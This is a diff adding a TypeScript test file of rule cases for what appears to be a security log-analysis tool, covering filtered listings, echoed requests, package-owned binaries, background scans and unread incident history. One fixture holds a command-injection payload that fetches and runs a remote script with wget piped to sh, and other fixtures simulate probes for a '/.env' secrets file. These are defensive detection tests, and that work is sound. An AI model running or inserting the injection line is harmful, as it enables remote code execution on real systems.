@@ -1,0 +1,110 @@
+import { appLog, at } from '../../moments/bundle-builder.js';
+import { access, layer, monitorLine, noHistory, nutsFrom, start } from '../../moments/pieces.js';
+import { caseAt, patchedAt, quietLog, type RuleCase } from '../rule-case.js';
+
+const now = '2026-11-20T12:00:00Z';
+const probe = (status: number, path = '/.env') =>
+  access([`104.23.1.2 - - [20/Nov/2026:11:20:05 +0000] "GET ${path} HTTP/1.1" ${status} 162 "-" "curl/8"`]);
+const echo = '/search?q=$(wget%20http://198.18.1.1/x.sh%20-O-|sh)';
+
+/** Rules 44 to 48: reading. */
+export const readingCases: readonly RuleCase[] = [
+  {
+    rule: 'FILTERED_VIEW',
+    fires: [
+      { title: 'a listing cut by grep', effect: /none/, moment: patchedAt(now, { ...quietLog, filtered: true }) },
+    ],
+    silent: [{ title: 'a whole listing', moment: patchedAt(now, quietLog) }],
+  },
+  {
+    rule: 'REQUEST_ECHO',
+    fires: [
+      {
+        title: 'a crawler’s command in a validation message',
+        effect: /attempt/,
+        moment: patchedAt(
+          now,
+          probe(400, echo),
+          appLog([
+            `${at('2026-11-20T11:20:05Z')} ValidationError: The following field is invalid: q value "$(wget http://198.18.1.1/x.sh -O-|sh)"`,
+          ]),
+        ),
+      },
+    ],
+    silent: [
+      {
+        title: 'a command that no request carries',
+        moment: caseAt('2025-12-12T23:00:00Z', appLog([monitorLine('2025-12-12T22:00:00Z', nutsFrom('5.231.70.66'))])),
+      },
+      { title: 'the crawler alone', moment: patchedAt(now, probe(404, echo), quietLog) },
+    ],
+  },
+  {
+    rule: 'PACKAGE_OWNED',
+    fires: [
+      {
+        title: 'ffmpeg of apk',
+        effect: /not foreign/,
+        moment: patchedAt(
+          now,
+          ...layer(
+            ['A /usr/bin/ffmpeg'],
+            [
+              {
+                path: '/usr/bin/ffmpeg',
+                sizeBytes: 292832,
+                mode: '0755',
+                magic: 'elf',
+                packageOwned: true,
+                packageName: 'ffmpeg',
+              },
+            ],
+          ),
+        ),
+      },
+    ],
+    silent: [
+      {
+        title: 'a program without an owner',
+        moment: patchedAt(
+          now,
+          ...layer(
+            ['A /usr/bin/ffmpeg'],
+            [{ path: '/usr/bin/ffmpeg', sizeBytes: 292832, mode: '0755', magic: 'elf', packageOwned: false }],
+          ),
+        ),
+      },
+      { title: 'nothing was added', moment: patchedAt(now, ...layer([])) },
+    ],
+  },
+  {
+    rule: 'BACKGROUND_SCAN',
+    fires: [{ title: 'refused', effect: /noted/, moment: patchedAt(now, probe(404)) }],
+    silent: [
+      { title: 'answered', moment: patchedAt(now, probe(200)) },
+      { title: 'no requests', moment: patchedAt(now, quietLog) },
+    ],
+  },
+  {
+    rule: 'INCIDENTS_UNSEEN',
+    fires: [
+      { title: 'the app’s log was not read', effect: /unknown/, moment: patchedAt(now, noHistory) },
+      { title: 'earlier reports were not looked for', moment: patchedAt(now, quietLog) },
+    ],
+    silent: [
+      {
+        title: 'log and history were read',
+        moment: patchedAt(
+          now,
+          appLog(start('2026-11-19T08:00:00Z', '16.4.5')),
+          {
+            id: 'docker.logs',
+            subject: 'container:payload-mongo-1',
+            text: '2026-11-19T08:00:00.000000000Z {"t":{"$date":"2026-11-19T08:00:00.000Z"},"s":"I","c":"NETWORK","msg":"Waiting for connections"}\n',
+          },
+          noHistory,
+        ),
+      },
+    ],
+  },
+];
